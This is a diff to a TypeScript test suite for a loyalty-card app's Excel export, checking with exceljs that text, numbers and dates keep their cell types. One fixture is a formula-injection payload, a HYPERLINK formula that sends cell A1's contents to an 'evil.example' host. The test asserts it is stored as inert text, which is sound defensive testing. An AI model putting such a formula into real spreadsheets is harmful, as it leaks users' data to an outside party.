@@ -10,6 +10,7 @@ import { describeEachDatabase } from './helpers/databases';
 import { CLIENT, createClientWithCard, createOtherAdmin, OTHER_ADMIN, OTHER_BUSINESS_ID } from './helpers/fixtures';
 import { DEMO_BUSINESSES } from '../src/seed/demo';
 import { csvWriter } from '../src/features/import-export/csv-export';
+import ExcelJS from 'exceljs';
 
 const BAR = DEMO_BUSINESSES[0].id;
 const NOW = new Date('2026-03-10T12:00:00Z');
@@ -20,6 +21,9 @@ const CARD_HEADER =
   'Numero carta;Nome;Email;Telefono;Punti;Punti in scadenza entro 30 giorni;Data di nascita;Creata il;' +
   'Consenso marketing WhatsApp;Consenso marketing SMS;Consenso marketing email';
 const LEDGER_HEADER = 'Data;Numero carta;Cliente;Tipo;Punti;Importo (€);Premio;Descrizione;Operatore';
+
+/** A response's bytes as exceljs's `load` types them (its typings predate Node's generic Buffer). */
+const xlsxBytes = (bytes: Buffer) => bytes as unknown as Parameters<ExcelJS.Xlsx['load']>[0];
 
 /** The records of a file as a spreadsheet reads them (csv-parse, RFC 4180), header first. */
 const records = (body: string): string[][] => parse(body, { delimiter: ';', bom: true, record_delimiter: '\r\n', relax_column_count: false });
@@ -147,6 +151,71 @@ describeEachDatabase('CSV export of cards and ledger', (variant) => {
     ]);
     // A negative number is written bare (a number for Excel), never behind a quote mark.
     expect(body).toContain(';rettifica;-5;;;');
+  });
+
+  it('exports the cards and the ledger as Excel files with typed cells, read back by exceljs: text stays text, numbers numbers, dates dates', async () => {
+    // Values a spreadsheet would turn into a number or a date: as text cells they stay as they are.
+    await t.app.db.query(
+      `INSERT INTO loyalty_cards (id, business_id, card_number, customer_name, customer_phone, email, birth_date, points, created_at)
+       VALUES ('k5', $1, 'LC-00000005', '3,14', '0012345', '1/2@example.it', '1980-02-29', 1234.5, '2026-03-02 08:00:00+00')`,
+      [SHOP],
+    );
+    try {
+      const response = await get(`/api/loyalty-cards/business/${SHOP}/export.xlsx`, owner);
+      expect(response.statusCode).toBe(200);
+      expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
+      expect(response.headers['content-disposition']).toBe('attachment; filename="carte-libreria-altrove-2026-03-10.xlsx"');
+      expect(response.headers['cache-control']).toBe('no-store');
+      const workbook = new ExcelJS.Workbook();
+      await workbook.xlsx.load(xlsxBytes(response.rawPayload));
+      const sheet = workbook.worksheets[0];
+      expect((sheet.getRow(1).values as unknown[]).slice(1)).toEqual(CARD_HEADER.split(';'));
+      const byNumber = new Map<string, ExcelJS.Row>();
+      sheet.eachRow((row, n) => n > 1 && byNumber.set(String(row.getCell(1).value), row));
+      expect(byNumber.size).toBe(5);
+      const k5 = byNumber.get('LC-00000005')!;
+      const cell = (row: ExcelJS.Row, n: number) => [row.getCell(n).type, row.getCell(n).value];
+      const { String: text, Number: number, Date: date, Null: none } = ExcelJS.ValueType;
+      expect([1, 2, 3, 4, 5, 6, 7, 8, 9].map((n) => cell(k5, n))).toEqual([
+        [text, 'LC-00000005'],
+        [text, '3,14'],
+        [text, '1/2@example.it'],
+        [text, '0012345'],
+        [number, 1234.5],
+        [number, 0],
+        [date, new Date('1980-02-29T00:00:00Z')],
+        [date, new Date('2026-03-02T09:00:00Z')], // 09:00 in Rome, as the CSV says it
+        [text, 'no'],
+      ]);
+      // Text columns are formatted as text, so a cell edited in the spreadsheet stays text; no apostrophe anywhere.
+      expect(k5.getCell(4).numFmt).toBe('@');
+      expect(k5.getCell(7).numFmt).toBe('dd/mm/yyyy');
+      // A formula in a name is a text cell (never a formula cell), written as it is: nothing to neutralise.
+      const k1 = byNumber.get('LC-00000001')!;
+      expect(cell(k1, 2)).toEqual([text, '=HYPERLINK("http://evil.example/?"&A1;"Clicca")']);
+      expect(cell(k1, 4)).toEqual([text, '+393331234567']);
+      expect(cell(byNumber.get('LC-00000004')!, 2)).toEqual([text, '-2+3']);
+      expect(cell(byNumber.get('LC-00000002')!, 7)).toEqual([none, null]);
+      const texts: string[] = [];
+      sheet.eachRow((row) => row.eachCell((c) => c.type === text && texts.push(String(c.value))));
+      expect(texts.filter((v) => v.startsWith("'"))).toEqual([]);
+
+      const ledger = await get(`/api/loyalty-cards/business/${SHOP}/ledger.xlsx`, superAdmin);
+      expect(ledger.statusCode).toBe(200);
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(xlsxBytes(ledger.rawPayload));
+      const rows = book.worksheets[0].getSheetValues().slice(2) as unknown[][];
+      expect(rows.map((r) => [r[1], r[4], r[5], r[7]])).toEqual([
+        [new Date('2026-02-28T10:00:00Z'), 'accredito', 20, 'Spesa'],
+        [new Date('2026-03-06T00:30:00Z'), 'bonus compleanno', 4, 'Buon compleanno'],
+        [new Date('2026-03-06T11:00:00Z'), 'rettifica', -5, '=1+1'],
+        [new Date('2026-03-07T11:00:00Z'), 'riscatto', -3, 'Premio'],
+        [new Date('2026-03-08T11:00:00Z'), 'scadenza', -2, 'Punti scaduti'],
+        [new Date('2026-03-08T11:00:00Z'), 'accredito', 7.25, '+ bonus'],
+      ]);
+    } finally {
+      await t.app.db.query(`DELETE FROM loyalty_cards WHERE id = 'k5'`);
+    }
   });
 
   it('lets only the admin of the shop and the super admin download; another shop, a client, nobody: refused, nothing in the body', async () => {
